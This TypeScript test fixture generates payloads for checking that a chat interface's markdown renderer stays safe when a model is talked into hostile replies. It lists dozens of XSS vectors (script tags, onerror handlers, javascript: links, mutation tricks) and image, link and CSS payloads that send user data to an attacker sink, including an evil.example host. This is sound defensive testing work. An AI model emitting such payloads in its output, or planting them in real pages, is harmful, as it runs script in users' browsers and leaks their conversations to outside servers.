/** Replies that a model could be talked into. Each is markdown of its own, and stands alone in what it opens. */

const SCRIPT = 'window.pwned=1;alert(1)';

/** What would run: none of it may become an element, an attribute or an address of the page. */
export function scripts(): string[] {
  const schemes = ['javascript:', 'JavaScript:', ' javascript:', 'java\tscript:', '&#106;avascript:', 'javascript&colon;', '\u0001javascript:', 'vbscript:', 'data:text/html,', 'data:text/html;base64,', 'file:///etc/passwd?', 'blob:', 'filesystem:', 'view-source:', 'intent:', 'ms-msdt:', '//evil.example/?', '/api/trpc/lab.down?', '../lock?', '?x=', '#']; // prettier-ignore
  const links = schemes.flatMap((scheme) => [
    `[click](${scheme}${SCRIPT})`,
    `[click](<${scheme}${SCRIPT}>)`,
    `![image](${scheme}${SCRIPT})`,
    `<${scheme}${SCRIPT}>`,
    `[ref][x]\n\n[x]: ${scheme}${SCRIPT}`,
  ]);
  const elements = [
    `<script>${SCRIPT}</script>`, `<ScRiPt>${SCRIPT}</sCrIpT>`, `<scr<script>ipt>${SCRIPT}</script>`, `<img src=x onerror="${SCRIPT}">`,
    `<svg onload="${SCRIPT}">`, `<svg><script>${SCRIPT}</script></svg>`, `<math><mtext><style><img src onerror=${SCRIPT}>`,
    `<iframe srcdoc="<script>parent.${SCRIPT}</script>"></iframe>`, `<iframe src="javascript:${SCRIPT}">`, `<object data="data:text/html,x">`,
    `<embed src="javascript:${SCRIPT}">`, `<a href="javascript:${SCRIPT}">x</a>`, `<form action="javascript:${SCRIPT}"><button>x`,
    `<input autofocus onfocus="${SCRIPT}">`, `<details open ontoggle="${SCRIPT}">`, `<video><source onerror="${SCRIPT}">`, `<body onload="${SCRIPT}">`,
    `<base href="http://evil.example/">`, `<meta http-equiv="refresh" content="0;url=javascript:${SCRIPT}">`, `<style>@import 'x';*{display:none}</style>`,
    `<link rel="stylesheet" href="data:text/css,*{display:none}">`, `<template><script>${SCRIPT}</script></template>`, `<!--><script>${SCRIPT}</script>-->`,
    `<![CDATA[<script>${SCRIPT}</script>]]>`, `<?xml x?><script>${SCRIPT}</script>`, `</div></article><script>${SCRIPT}</script>`,
    `<x onclick="${SCRIPT}" style="position:fixed;inset:0">x</x>`, `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
    `\`\`\`html\n<script>${SCRIPT}</script>\n\`\`\``, `\`\`\`"><script>${SCRIPT}</script>\nx\n\`\`\``, `\`<script>${SCRIPT}</script>\``,
    `$\\href{javascript:${SCRIPT}}{x}$`, `$$\\unknown{<img src=x onerror=${SCRIPT}>}$$`, `\`\`\`mermaid\ngraph TD;A-->B["<img src=x onerror=${SCRIPT}>"]\n\`\`\``,
    `| a |\n|---|\n| <img src=x onerror="${SCRIPT}"> |`, `# <script>${SCRIPT}</script>`, `> <script>${SCRIPT}</script>`, `- <script>${SCRIPT}</script>`,
    `[a](x "onmouseover=${SCRIPT}")`, `[a](x" onmouseover="${SCRIPT})`, `[<img src=x onerror=${SCRIPT}>](http://example.com)`,
    `text[^1]\n\n[^1]: <script>${SCRIPT}</script>`, `&lt;script&gt;${SCRIPT}&lt;/script&gt;`, `\\<script>${SCRIPT}</script>`, `${'['.repeat(300)}x${']'.repeat(300)}(javascript:1)`,
  ]; // prettier-ignore
  return [...links, ...elements];
}

/** What would tell another server something, without a click. `sink`: its origin. */
export function leaks(sink: string): string[] {
  const bare = sink.replace('http:', '');
  const url = `${sink}/leak?words=of-the-user`;
  return [
    `![x](${url})`, `![x](<${url}>)`, `![](${url} "title")`, `![x][r]\n\n[r]: ${url}`, `![r]\n\n[r]: ${url}`, `![r][]\n\n[r]: <${url}> 'x'`,
    `[![x](${url})](${url})`, `![x](${bare}/leak)`, `![x](HTTP:${bare}/leak)`, `![x](http:\\\\${bare.slice(2)}/leak)`, `![a ![b](${url})](${url})`,
    `| a |\n|---|\n| ![x](${url}) |`, `> ![x](${url})`, `- [ ] ![x](${url})`, `# ![x](${url})`, `text[^1]\n\n[^1]: ![x](${url})`, `**![x](${url})**`,
    `<img src="${url}">`, `<img srcset="${url} 1x">`, `<picture><source srcset="${url}"><img></picture>`, `<IMG SRC=${url}>`, `<image href="${url}">`,
    `<svg><image href="${url}" /></svg>`, `<svg><use href="${url}#x" /></svg>`, `<svg style="background:url(${url})">`, `<video poster="${url}" autoplay>`,
    `<audio src="${url}" autoplay>`, `<video src="${url}" autoplay>`, `<track src="${url}">`, `<input type="image" src="${url}">`, `<object data="${url}">`,
    `<embed src="${url}">`, `<iframe src="${url}"></iframe>`, `<frame src="${url}">`, `<portal src="${url}">`, `<link rel="prefetch" href="${url}">`,
    `<link rel="preload" as="image" href="${url}">`, `<link rel="dns-prefetch" href="${bare}">`, `<link rel="preconnect" href="${sink}">`,
    `<link rel="icon" href="${url}">`, `<link rel="stylesheet" href="${url}">`, `<link rel="manifest" href="${url}">`, `<style>body{background:url(${url})}</style>`,
    `<style>@import url(${url});</style>`, `<style>@font-face{font-family:x;src:url(${url})}*{font-family:x}</style>`, `<p style="background:url(${url})">x</p>`,
    `<p style="list-style-image:url(${url})">x</p>`, `<table background="${url}"><td>x`, `<body background="${url}">`, `<meta http-equiv="refresh" content="0;url=${url}">`,
    `<base href="${sink}/"><img src="leak">`, `<script src="${url}"></script>`, `<a ping="${url}" href="#">x</a>`, `<form action="${url}"><input autofocus></form>`,
    `<html manifest="${url}">`, `<bgsound src="${url}">`, `<applet archive="${url}">`, `<math href="${url}">x</math>`, `<blockquote cite="${url}">x`, `<q cite="${url}">x</q>`,
    `\`\`\`html\n<img src="${url}">\n\`\`\``, `${url}`, `<${url}>`, `[x](${url})`, `[x]: ${url}\n[x]`, `[//]: # (${url})`, `![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="${encodeURIComponent(url)}"/></svg>)`,
  ]; // prettier-ignore
}
